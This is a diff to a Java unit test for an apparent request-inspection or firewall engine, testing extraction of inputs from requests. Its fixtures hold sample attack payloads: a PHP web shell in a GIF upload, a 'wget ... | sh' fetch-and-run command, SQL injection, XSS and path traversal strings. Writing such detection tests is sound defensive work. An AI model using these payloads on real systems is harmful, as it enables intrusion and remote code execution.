@@ -2,8 +2,6 @@ package ai.traceable.tme.engine.inspect;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import ai.traceable.tme.engine.RequestView;
-import ai.traceable.tme.engine.detect.Inspected;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Map;
@@ -79,11 +77,16 @@ class InputExtractorTest {
   @Test
   void multipartGivesFieldValuesAndFileNames() {
     String body =
-        "--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\nhello there\r\n"
-            + "--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"../../a.php\"\r\n"
-            + "Content-Type: image/png\r\n\r\n\u0089PNG...\r\n--XyZ--\r\n";
+        "--XyZ\r\n"
+            + "Content-Disposition: form-data; name=\"comment\"\r\n\r\n"
+            + "hello there\r\n"
+            + "--XyZ\r\n"
+            + "Content-Disposition: form-data; name=\"upload\"; filename=\"../../a.php\"\r\n"
+            + "Content-Type: image/png\r\n\r\n"
+            + "\u0089PNG...\r\n"
+            + "--XyZ--\r\n";
     assertThat(locations(request("/up", "multipart/form-data; boundary=XyZ", body)))
-        .contains("multipart:comment=hello there", "multipart:upload.filename=../../a.php")
+        .contains("multipart:comment=hello there", "multipart-filename:upload.filename=../../a.php")
         .noneMatch(s -> s.contains("PNG"));
   }
 
@@ -122,5 +125,93 @@ class InputExtractorTest {
         small.extract(request("/j", "application/json", "{\"a\":{\"b\":{\"c\":\"deep\"}}}"));
     assertThat(deep.values()).extracting(Inspected::decoded).doesNotContain("deep");
     assertThat(deep.limited()).isTrue();
+  }
+
+  @Test
+  void everyNameIsInspectedOnceInAPlacementOfItsOwn() {
+    RequestView r =
+        new RequestView(
+            "POST",
+            "/s?java.lang.Runtime=1&limit=2&limit=3&q=4",
+            "h",
+            Map.of(
+                "cookie", List.of("__proto__=x; session=1; sid=2"),
+                "content-type", List.of("application/json")),
+            "[{\"constructor.prototype\":1},{\"constructor.prototype\":2}]"
+                .getBytes(StandardCharsets.UTF_8),
+            false,
+            "",
+            0);
+    List<String> found = locations(r);
+    assertThat(found)
+        .contains(
+            "query-name=java.lang.Runtime",
+            "query-name=limit",
+            "cookie-name=__proto__",
+            "cookie-name=session",
+            "json-key:constructor.prototype=constructor.prototype");
+    assertThat(found.stream().filter(s -> s.equals("query-name=limit"))).hasSize(1);
+    // too short to spell anything a detector reports
+    assertThat(found).doesNotContain("query-name=q", "cookie-name=sid");
+    assertThat(found.stream().filter(s -> s.startsWith("json-key:"))).hasSize(1);
+    assertThat(Placement.COOKIE_NAME.isName()).isTrue();
+    assertThat(Placement.COOKIE.isName()).isFalse();
+  }
+
+  @Test
+  void pathSegmentsAreValuesAndPlainOnesAreTriedAsBase64() {
+    List<String> found =
+        locations(request("/go/javascript:alert(1)/items/MScgT1IgJzEnPScxJyAtLSA/42", null, ""));
+    assertThat(found)
+        .contains("path-segment=javascript:alert(1)", "path-segment:(base64)=1' OR '1'='1' -- ")
+        .noneMatch(s -> s.equals("path-segment=items") || s.equals("path-segment=42"));
+  }
+
+  @Test
+  void headersAreAlsoInspectedBase64Decoded() {
+    RequestView r =
+        new RequestView(
+            "GET",
+            "/",
+            "h",
+            Map.of("x-data", List.of("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
+            new byte[0],
+            false,
+            "",
+            0);
+    assertThat(locations(r)).contains("header:x-data(base64)=<script>alert(1)</script>");
+  }
+
+  @Test
+  void binaryPartsAndBodiesGiveTheirPrintableRuns() {
+    String body =
+        "--XyZ\r\nContent-Disposition: form-data; name=\"pic\"; filename=\"a.gif\"\r\n"
+            + "Content-Type: image/gif\r\n\r\nGIF89a\u0001\u0002<?php system($_GET['c']); ?>"
+            + "\u0003ab\r\n--XyZ--\r\n";
+    assertThat(locations(request("/up", "multipart/form-data; boundary=XyZ", body)))
+        .contains("multipart:pic=<?php system($_GET['c']); ?>");
+    assertThat(
+            locations(
+                request(
+                    "/up",
+                    "application/octet-stream",
+                    "\u0000\u0001wget http://x.example/a|sh\u0002")))
+        .contains("text:printable=wget http://x.example/a|sh");
+  }
+
+  @Test
+  void longValuesAreInspectedInOverlappingWindowsUpToABound() {
+    InputExtractor small = new InputExtractor(new InspectionLimits(1 << 20, 1024, 1024, 8));
+    String tail = "' UNION SELECT password FROM users--";
+    String value = "a".repeat(3000) + tail;
+    Inputs inputs = small.extract(request("/s", "text/plain", value));
+    assertThat(inputs.values())
+        .filteredOn(v -> v.placement() == Placement.TEXT)
+        .anyMatch(v -> v.decoded().endsWith(tail))
+        .allMatch(v -> v.raw().length() <= 1024);
+    assertThat(inputs.limited()).isFalse();
+    Inputs huge = small.extract(request("/s", "text/plain", "b".repeat(20_000) + tail));
+    assertThat(huge.values()).filteredOn(v -> v.placement() == Placement.TEXT).hasSize(8);
+    assertThat(huge.limited()).isTrue();
   }
 }
